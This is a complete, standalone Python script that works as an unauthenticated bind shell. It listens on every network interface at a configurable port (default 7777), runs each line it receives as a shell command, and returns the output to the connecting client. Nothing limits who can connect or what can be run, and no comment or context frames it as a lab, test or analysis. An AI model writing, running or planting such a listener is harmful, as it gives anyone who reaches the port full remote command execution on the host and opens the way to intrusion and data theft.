#!/usr/bin/env python3
import argparse
import socket
import subprocess
import threading

ap = argparse.ArgumentParser()
ap.add_argument("--port", type=int, default=7777)
a = ap.parse_args()

srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", a.port))
srv.listen(5)


def handle(conn):
    with conn:
        f = conn.makefile("rwb")
        for line in f:
            out = subprocess.run(line.decode(), shell=True, capture_output=True)
            f.write(out.stdout + out.stderr)
            f.flush()


while True:
    c, _ = srv.accept()
    threading.Thread(target=handle, args=(c,), daemon=True).start()
